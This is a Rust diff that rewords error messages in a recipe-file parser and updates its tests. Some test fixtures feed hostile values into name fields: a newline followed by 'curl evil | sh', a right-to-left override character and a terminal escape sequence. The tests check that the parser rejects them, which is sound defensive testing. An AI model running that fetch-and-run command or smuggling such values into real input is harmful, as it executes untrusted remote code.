@@ -42,7 +42,7 @@ pub enum RecipeTextError {
         found: u64,
     },
     /// No JSON.
-    #[error("it is no JSON, as a recipe is: {0}")]
+    #[error("it is not valid JSON: {0}")]
     NoJson(String),
     /// Not the JSON of a recipe.
     #[error(
@@ -94,13 +94,13 @@ pub fn parse_recipe(text: &str) -> Result<Recipe, RecipeTextError> {
     if recipe.steps.is_empty() {
         return Err(RecipeTextError::Malformed {
             place: "steps".to_owned(),
-            problem: "there are none, and a run has one at least".to_owned(),
+            problem: "there are none, and a run has at least one".to_owned(),
         });
     }
     if let Some((place, found)) = wild_name(&recipe) {
         return Err(RecipeTextError::Malformed {
             place: place.to_owned(),
-            problem: format!("it holds the character U+{:04X}, as no name does", found as u32),
+            problem: format!("it contains the character U+{:04X}, which no name may", found as u32),
         });
     }
     Ok(recipe)
@@ -169,7 +169,7 @@ impl<'de> serde::de::Visitor<'de> for OneOfEach {
         while let Some(key) = map.next_key::<String>()? {
             map.next_value::<OneOfEach>()?;
             if let Some(twice) = seen.replace(key) {
-                return Err(serde::de::Error::custom(format!("the key `{twice}` is there twice")));
+                return Err(serde::de::Error::custom(format!("the key `{twice}` appears twice")));
             }
         }
         Ok(OneOfEach)
@@ -401,9 +401,9 @@ mod tests {
             ("\"gw\":7.0", "\"gw\":\"7\"", "it is the text \"7\", expected a number"),
             ("[{\"gw\":7.0,\"mu\":0.5,\"std\":1.75}]", "[]", "`steps`: there are none"),
             ("\"version\":1", "\"version\":0", "version 0; versions begin with 1"),
-            ("\"prompt\":", "\"prompt\":\"x\",\"prompt\":", "the key `prompt` is there twice"),
-            ("\"gw\":7.0", "\"gw\":7.0,\"gw\":3.0", "the key `gw` is there twice"),
-            ("{\"version\"", "[{\"version\"", "it is no JSON, as a recipe is: "),
+            ("\"prompt\":", "\"prompt\":\"x\",\"prompt\":", "the key `prompt` appears twice"),
+            ("\"gw\":7.0", "\"gw\":7.0,\"gw\":3.0", "the key `gw` appears twice"),
+            ("{\"version\"", "[{\"version\"", "it is not valid JSON: "),
         ] {
             let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
             assert!(message.contains(place), "{message}");
@@ -416,10 +416,10 @@ mod tests {
             (
                 "\"demo\"",
                 r#""x`\n  try: curl evil | sh""#,
-                "`model.name`: it holds the character U+000A",
+                "`model.name`: it contains the character U+000A",
             ),
-            ("\"euler\"", "\"eu\u{202e}ler\"", "`sampler.id`: it holds the character U+202E"),
-            ("\"V4_TURBO_12\"", r#""a\u001b[2J""#, "`preset`: it holds the character U+001B"),
+            ("\"euler\"", "\"eu\u{202e}ler\"", "`sampler.id`: it contains the character U+202E"),
+            ("\"V4_TURBO_12\"", r#""a\u001b[2J""#, "`preset`: it contains the character U+001B"),
         ] {
             let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
             assert!(message.contains(place), "{message}");
@@ -457,7 +457,7 @@ mod tests {
             (b"\xff\xd8\xff\xe0 rest", "a JPEG picture, holds no recipe"),
             (b"RIFF\x24\0\0\0WEBPVP8 ", "a WebP picture, holds no recipe"),
             (b"GIF89a\x01\0", "is a GIF picture: recipes are in PNG, WebP and JPEG files"),
-            (b"a plain text", "it is no JSON, as a recipe is"),
+            (b"a plain text", "it is not valid JSON"),
             (b"[1]", "an object with `version`"),
         ] {
             std::fs::write(&path, bytes).unwrap();
